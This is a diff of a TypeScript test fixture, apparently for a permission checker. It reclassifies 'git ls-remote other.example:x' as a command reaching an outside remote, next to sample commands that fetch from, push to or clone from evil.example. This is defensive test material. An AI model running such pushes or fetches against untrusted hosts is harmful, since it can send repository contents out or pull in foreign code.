@@ -370,8 +370,9 @@ const classes: Readonly<Record<string, Class>> = {
       'git fetch evil.example:x',
       'git push ssh://evil.example/x',
       'git clone git+ssh://evil.example/x',
+      'git ls-remote other.example:x',
     ],
-    plain: ['git ls-remote origin', 'git push origin HEAD:main', 'git ls-remote other.example:x'],
+    plain: ['git ls-remote origin', 'git push origin HEAD:main'],
   },
   'commits that are not from a remote': {
     allow: ['Bash(git:*)', 'WebFetch(domain:good.example)'],
